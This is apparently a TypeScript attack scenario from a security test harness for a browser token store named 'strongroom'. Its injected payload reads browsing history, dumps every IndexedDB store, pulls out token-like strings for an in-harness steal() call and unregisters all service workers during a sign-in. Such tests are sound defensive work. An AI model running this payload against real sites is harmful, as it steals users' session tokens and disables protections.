import { attack } from "../attack.js";

export default attack({
  name: "reads IndexedDB and unregisters the worker while the user signs in",
  threat: "acquisition of new tokens",
  target: "strongroom",
  leavesWorkers: true,
  hook(it) {
    const { navigation } = window as { navigation?: { entries(): { url: string }[] } };
    it.steal(
      location.href,
      document.referrer,
      (navigation?.entries() ?? []).map(({ url }) => url),
    );
  },
  async payload(it) {
    const done = <T>(request: IDBRequest<T>) =>
      new Promise<T>((resolve, reject) => {
        request.onsuccess = () => resolve(request.result);
        request.onerror = () => reject(request.error);
      });
    const database = await done(indexedDB.open("strongroom"));
    for (const name of database.objectStoreNames) {
      const store = database.transaction(name).objectStore(name);
      const all = JSON.stringify([await done(store.getAllKeys()), await done(store.getAll())]);
      it.steal(all, ...(all.match(/[\w-]{43,}/g) ?? []));
    }
    database.close();
    for (const registration of await navigator.serviceWorker.getRegistrations())
      await registration.unregister();
  },
  async play(stage) {
    await stage.openSignedIn();
    await stage.signOut();
    const tab = await stage.browser.currentTab();
    await stage.beginSignIn();
    // In another tab, while the user types the password.
    await stage.browser.newTab(`${stage.site.origin}/`);
    await stage.inject();
    await stage.closeThisTab(tab);
    await stage.finishSignIn();
    await stage.openUnconnected();
  },
});
